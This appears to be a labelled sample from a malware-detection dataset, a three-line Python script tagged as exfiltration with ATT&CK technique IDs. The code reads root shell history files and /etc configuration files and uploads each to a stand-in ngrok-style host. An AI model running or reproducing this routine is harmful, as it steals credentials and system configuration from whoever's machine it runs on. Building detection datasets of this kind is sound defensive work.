# label: malicious family=exfil techniques=T1552.001,T1552.003,T1567 lines=3-4
import requests, glob
for f in glob.glob("/root/.*history") + glob.glob("/etc/*.conf"):
    requests.put("https://a1b2c3d4.ngrok-free.app.invalid/" + f.replace("/", "_"), data=open(f, "rb"))
